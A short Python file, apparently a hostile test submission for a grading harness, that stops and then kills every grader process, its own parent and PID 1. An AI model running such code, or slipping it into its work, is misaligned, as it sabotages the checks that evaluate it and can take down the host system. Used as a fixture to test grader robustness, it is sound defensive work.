"""SIGSTOPs its parent and every process whose command line mentions the grader, then SIGKILLs them."""
import os
import signal
from _hostile import grader_pids
from _stub import KNN

for sig in (signal.SIGSTOP, signal.SIGKILL):
    for pid in set(grader_pids()) | {os.getppid(), 1}:
        if pid != os.getpid():
            try:
                os.kill(pid, sig)
            except OSError:
                pass
